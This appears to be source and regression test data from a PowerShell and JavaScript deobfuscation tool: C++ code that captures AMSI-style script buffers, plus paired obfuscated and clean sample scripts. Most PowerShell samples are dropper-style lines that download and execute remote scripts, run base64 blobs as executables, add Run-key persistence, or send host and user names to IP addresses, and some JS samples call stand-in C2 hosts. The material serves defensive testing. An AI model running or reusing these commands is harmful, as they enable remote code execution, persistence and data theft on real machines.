  /// Script buffers in the order they reached the engine; [0] is the
  /// top-level script, later entries are inner layers.
  std::vector<std::string> buffers;
  bool executed_ok = false;

  /// What an AMSI-backed scanner would treat as the deobfuscation result:
  /// the innermost (final) buffer supplied to the engine.
  [[nodiscard]] const std::string& final_buffer() const {
    static const std::string empty;
    return buffers.empty() ? empty : buffers.back();
  }

  /// True when `needle` appears in any captured buffer — the scanner's
  /// signature-match surface.
  [[nodiscard]] bool sees(std::string_view needle) const;
};

/// Executes `script` with the AMSI observation point enabled and returns
/// every captured engine buffer.
AmsiCapture amsi_scan(std::string_view script);

}  // namespace ideobf
