#include "sandbox/amsi.h"

#include "pslang/alias_table.h"
#include "psinterp/interpreter.h"

namespace ideobf {

namespace {

class AmsiRecorder final : public ps::EffectRecorder {
 public:
  explicit AmsiRecorder(AmsiCapture& capture) : capture_(capture) {}

  void on_engine_script(std::string_view script) override {
    capture_.buffers.emplace_back(script);
  }
  void on_network(std::string_view, std::string_view) override {}
  void on_process(std::string_view) override {}
  void on_file(std::string_view, std::string_view) override {}
  void on_sleep(double) override {}
  void on_host_output(std::string_view) override {}
  std::string download_content(std::string_view) override { return ""; }

 private:
  AmsiCapture& capture_;
};

}  // namespace

bool AmsiCapture::sees(std::string_view needle) const {
  for (const std::string& buffer : buffers) {
    if (ps::to_lower(buffer).find(ps::to_lower(needle)) != std::string::npos) {
      return true;
    }
  }
  return false;
}

AmsiCapture amsi_scan(std::string_view script) {
  AmsiCapture capture;
  AmsiRecorder recorder(capture);
  ps::InterpreterOptions opts;
  opts.max_steps = 1000000;
  opts.recorder = &recorder;
  ps::Interpreter interp(opts);
  try {
    interp.evaluate_script(std::string(script));
    capture.executed_ok = true;
  } catch (const std::exception&) {
    capture.executed_ok = false;
  }
  return capture;
}

}  // namespace ideobf
