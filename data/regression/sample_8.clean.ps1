(New-Object Net.WebClient).DownloadString('http://static-assets.invalid/report4.ps1') | Invoke-Expression
