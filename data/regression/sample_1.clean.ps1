(New-Object Net.WebClient).DownloadString('http://files-mirror.test/module99.ps1') | Invoke-Expression
