(New-Object Net.WebClient).DownloadString('http://mail-relay.test/svc12.ps1') | Invoke-Expression
