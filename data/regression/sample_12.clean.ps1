$info = $env:COMPUTERNAME + '|' + $env:USERNAME
$client = New-Object Net.WebClient
$client.UploadString('http://76.218.24.159/collect', $info)
