[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$url     =   ((-join      ('51,47,47,43'      -split ',' |      ForEach-Object     {    [char]($_  -bxor 0x5b) }))+(-join     (('96,117,'+'117,59,42') -split  ',' |     ForEach-Object     { [char]($_ -bxor   0x5a)   }))+('i-gateway.'+'invalid/loader16.ps1'))
$client = New-Object Net.WebClient
$payload      =     $client.DownloadString($url)
Invoke-Expression $payload
