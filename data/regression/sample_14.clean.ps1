$dest = Join-Path $env:TEMP 'stage231.ps1'
(New-Object Net.WebClient).DownloadFile('http://login-portal.invalid/stage231.ps1', $dest)
Start-Process powershell -ArgumentList $dest
