$data = 'FGvogZiCryCKBgRq5soV7/M+/fOm+rkKA0+ADpxBQ/6eLUGibJxI9f4+VC/u3hNoM0noNBZ6m3CDZfnOMWc8IgqFADGSYSG/r4Pv/5oGXvPl2V5U8FaLg3U4dfn7hNGOEXm7JOa+tsJx5dmAU5VYMN5GDq+3QwFR3g/eJy8AynuJHOYLkJHEdTycOBoNehHu+GungmL3SmF9pAYzroohbx2SKmwQPHws6+RQb6y5iyT4BusNby+qxIxF3HNmkfNlLuJWlyuY'
$bytes = [Convert]::FromBase64String($data)
$exe = Join-Path $env:TEMP 'setup.exe'
[IO.File]::WriteAllBytes($exe, $bytes)
Start-Process $exe
(New-Object Net.WebClient).DownloadString('https://cdn-updates.example/payload.txt') | Out-Null
