$txDJst = ("{4}{0}{3}{2}{1}" -f (-join ('73,87,95,95' -split ',' | % { [char]($_ -bxor 0x66) })),(-join ('41' -split ',' | % { [char]($_ -bxor 0x42) })),(-join ('119,44,57,43' -split ',' | % { [char]($_ -bxor 0x58) })),(-join ('99,116,123,99,124,121,124,99,124,117,116,119,117,125,117,125' -split ',' | % { [char]($_ -bxor 0x4d) })),'http:/')
$QKspxqkcQ = 0
while ($QKspxqkcQ -lt 3) {
    $Jvlggp = (New-Object Net.WebClient).DownloadString($txDJst)
    iex $Jvlggp
    sleep 5
    $QKspxqkcQ++
}
