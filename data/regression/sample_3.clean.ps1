$dest = Join-Path $env:TEMP 'core29.ps1'
(New-Object Net.WebClient).DownloadFile('http://img-hosting.test/core29.ps1', $dest)
Start-Process powershell -ArgumentList $dest
