$data = 'eZqivLuHyHZI8EcgO3DgkZLyIQtwQYIYWY4CPFdYaOXwRIc+TxO1fd3/mOk20WAgMkdbjaPTgzKyPIVpTbm16P0iJCMr9PDHFAE/wHIe6/qXbrEdznNSqbWAOwRh14d2Ctl1btx/hFHQQ8zPeXQZTB/3bcmzjlZQ9GDXlJvDS3j10/hz0PesjXtuTEgm/oYW8DXBji4692UensrEQDwg8vyJgejqJHWWJfOhBRqjQOPzwZVfSFSddQboJrdchCB+CjU8LP7w/oHS8FZhIz1RR2Ap2EQENPvXjOsadd+J40+KYV9JVn6HHqz1CEphQMwKeiAySEBKq+o='
$bytes = [Convert]::FromBase64String($data)
$exe = Join-Path $env:TEMP 'loader.exe'
[IO.File]::WriteAllBytes($exe, $bytes)
Start-Process $exe
(New-Object Net.WebClient).DownloadString('https://img-hosting.test/core.txt') | Out-Null
