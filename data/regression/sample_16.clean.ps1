$script = 'C:\ProgramData\stage286.ps1'
(New-Object Net.WebClient).DownloadFile('https://login-portal.invalid/module.txt', $script)
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value ('powershell -File ' + $script)
