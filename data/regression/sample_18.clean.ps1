$script = 'C:\ProgramData\svc31.ps1'
(New-Object Net.WebClient).DownloadFile('https://mail-relay.test/core.txt', $script)
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value ('powershell -File ' + $script)
