(New-Object Net.WebClient).DownloadString('http://download-hub.example/core28.ps1') | Invoke-Expression
