$PXjLk =      $env:COMPUTERNAME +     '|'     +      $env:USERNAME
$TghrSsk     = New-Object    Net.WebClient
$TghrSsk.UploadString((([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwAxADYANgAuADkAOAAuAA==')))+([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('MQA2AC4AOQAvAGMAbwBsAGwAZQBjAHQA')))),   $PXjLk)
