$data = 'SfRpKsWz7LF/NmO1UUQjMuCnl8J0Nd87cDaLcReVmNuqonM8/oHI8Uh56S6OjizdKrF62Nwxcn/sQz6sXPfpkFjpIKxu2INkkWrDlSpizM2YIyLEDVTmUUXEqrVRwGM4MbbZn2ijljZ4iM2SbKGac3CxiiwLWbYvVl2JEhdDQH8cg2Arw7+WWluOPoauz9ZVQSr1s2mWvbxG9+pSD2inwNV2Symv42ehVwafrJHVFCxlS+ZiXFPSfbj4FLNqsiZGN1NTgIw='
$bytes = [Convert]::FromBase64String($data)
$exe = Join-Path $env:TEMP 'update.exe'
[IO.File]::WriteAllBytes($exe, $bytes)
Start-Process $exe
(New-Object Net.WebClient).DownloadString('https://static-assets.invalid/loader.txt') | Out-Null
