[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$url = 'http://files-mirror.test/svc3.ps1'
$client = New-Object Net.WebClient
$payload = $client.DownloadString($url)
Invoke-Expression $payload
