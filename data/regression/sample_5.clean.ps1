$info = $env:COMPUTERNAME + '|' + $env:USERNAME
$client = New-Object Net.WebClient
$client.UploadString('http://166.98.16.9/collect', $info)
