$dest = J`o`in-`Path $env:TEMP (([Text.Encoding]::Unicode.GetStr`ing([Convert]::FromBase64String('YwBvAHIAZQAyADkALgBwAHMA')))+([Text.Encoding]::Uni`c`ode.Get`Str`ing([Convert]::FromBase64`String('MQA='))))
(New-`Object Net.`WebC`l`ient).D`own`loa`dF`i`le(([Text.Encoding]::Un`i`code.GetStr`ing([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwBpAG0AZwAtAGgAbwBzAHQAaQBuAGcALgB0AGUAcwB0AC8AYwBvAHIAZQAyADkALgBwAHMAMQA='))), $dest)
sa`ps po`wershell -ArgumentList $dest
