[net.ServIcepoiNTMAnaGeR]::seCURitypRoTocOl = [nET.SeCUrityprOToCOlTYPe]::tLs12
$url = (-jOIN ((new-OBjECt iO.STREamReadeR((neW-OBJect IO.cOMpreSsIOn.dEflAtestREAm([io.memorYStREam][convErT]::FroMBAse64sTRInG('Mywu0DNOLivWLylOLdEryi8qyszVLU7NyUzT17cqKCnJAAA='), [IO.cOmPRessIon.cOMpreSsiOnmODe]::deComPRESS)), [texT.enCOdINg]::Utf8)).ReadtoeNd())[-1..-33])
$client = NeW-obJEct NeT.wEbCLiENt
$payload = $client.dOWNLoaDSTRiNg($url)
INvoKe-EXpResSioN $payload
