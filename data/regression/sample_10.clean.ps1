[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$url = 'http://login-portal.invalid/invoice30.ps1'
$client = New-Object Net.WebClient
$payload = $client.DownloadString($url)
Invoke-Expression $payload
