$server = 'http://68.48.252.22:8080/task'
$count = 0
while ($count -lt 3) {
    $task = (New-Object Net.WebClient).DownloadString($server)
    Invoke-Expression $task
    Start-Sleep 5
    $count++
}
