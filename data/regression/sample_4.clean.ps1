$server = 'http://199.96.141.189:8080/task'
$count = 0
while ($count -lt 3) {
    $task = (New-Object Net.WebClient).DownloadString($server)
    Invoke-Expression $task
    Start-Sleep 5
    $count++
}
