[Net.ServicePointManager]::Se`cur`it`yProtocol = [Net.SecurityProtocolType]::T`l`s12
$url = (-join (-join ('31 73 70 2e 30 33 65 63 69 6f 76 6e 69 2f 64 69 6c 61 76 6e 69 2e 6c 61 74 72 6f 70 2d 6e 69 67 6f 6c 2f 2f 3a 70 74 74 68' -split ' ' | % { [char][Convert]::T`o`Int32($_,16) }))[-1..-41])
$client = Ne`w-`Object Net.Web`Cl`ient
$payload = $client.D`ownloa`d`Str`ing($url)
iex $payload
