[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$url = 'http://api-gateway.invalid/loader16.ps1'
$client = New-Object Net.WebClient
$payload = $client.DownloadString($url)
Invoke-Expression $payload
