$script = 'C:\ProgramData\loader9.ps1'
(New-Object Net.WebClient).DownloadFile('https://static-assets.invalid/svc.txt', $script)
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Updater' -Value ('powershell -File ' + $script)
