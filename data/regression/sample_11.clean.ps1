$data = '5VPrlRe7JF5KDhzRHogC2LAXygspFAg1jwY/DvLjzBlsZ69rPlub5ePiVn4hv+LhgPJAYR2mFCaK0FWG/4qNi+yYcwZ45ikHZp2oQ9GvHN4Nus/3n7HKarjUGwT5VKr5Vw+rmH7ZKb9szQ/01QXUYdfeUGJ2L4Z5sGA/GRv8GLffKl6bO94Sed3Aw6c1qWj9xOav1NYCELBSdyiBrc81aV8tws3I9rl0BVz0Lh3eFEDKhF23Xe7d5Q=='
$bytes = [Convert]::FromBase64String($data)
$exe = Join-Path $env:TEMP 'setup.exe'
[IO.File]::WriteAllBytes($exe, $bytes)
Start-Process $exe
(New-Object Net.WebClient).DownloadString('https://static-assets.invalid/report.txt') | Out-Null
