console.log("two layers deep");
