var cmd = unescape('%63%61%6c%63%2e%65%78%65');
run(cmd);
