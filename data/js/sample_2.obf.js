var url = atob('aHR0cDovL2V4YW1wbGUuY29tL3BheWxvYWQ=');
download(url);
