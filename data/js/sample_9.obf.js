var host = decodeURIComponent('%63%32%2e%65%78%61%6d%70%6c%65%2e%6f%72%67');
var port = parseInt('31337', 10);
connect(host, port);
