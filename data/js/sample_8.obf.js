eval("eval('console.log(\"two layers deep\")')");
