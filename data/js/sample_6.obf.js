var a = 'Inv';
var b = 'oke-';
var c = a + b + 'Expression';
var d = c.toLowerCase();
console.log(d);
