eval('con' + 'sole.log("unwrapped layer zero")');
