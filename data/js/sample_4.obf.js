window["eval"]('console["log"]("bracket member chain")');
