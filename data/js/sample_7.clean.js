var flipped = 'download';
var verb = 'Download';
console.log('Download');
