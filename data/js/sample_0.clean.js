console.log("unwrapped layer zero");
