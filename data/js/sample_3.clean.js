var cmd = 'calc.exe';
run('calc.exe');
