var _0x4fa1 = String.fromCharCode(104, 116, 116, 112, 58, 47, 47);
var _0x4fa2 = _0x4fa1 + 'evil.example' + '.com/stage2';
console.log(_0x4fa2);
