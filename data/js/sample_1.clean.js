var var0 = 'http://';
var var1 = 'http://evil.example.com/stage2';
console.log('http://evil.example.com/stage2');
