console.log("bracket member chain");
