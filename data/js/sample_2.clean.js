var url = 'http://example.com/payload';
download('http://example.com/payload');
