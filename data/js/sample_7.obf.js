var flipped = 'daolnwod'.split('').reverse().join('');
var verb = flipped.charAt(0).toUpperCase() + flipped.slice(1);
console.log(verb);
