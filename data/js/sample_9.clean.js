var host = 'c2.example.org';
var port = 31337;
connect('c2.example.org', 31337);
