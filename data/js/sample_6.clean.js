var a = 'Inv';
var b = 'oke-';
var c = 'Invoke-Expression';
var d = 'invoke-expression';
console.log('invoke-expression');
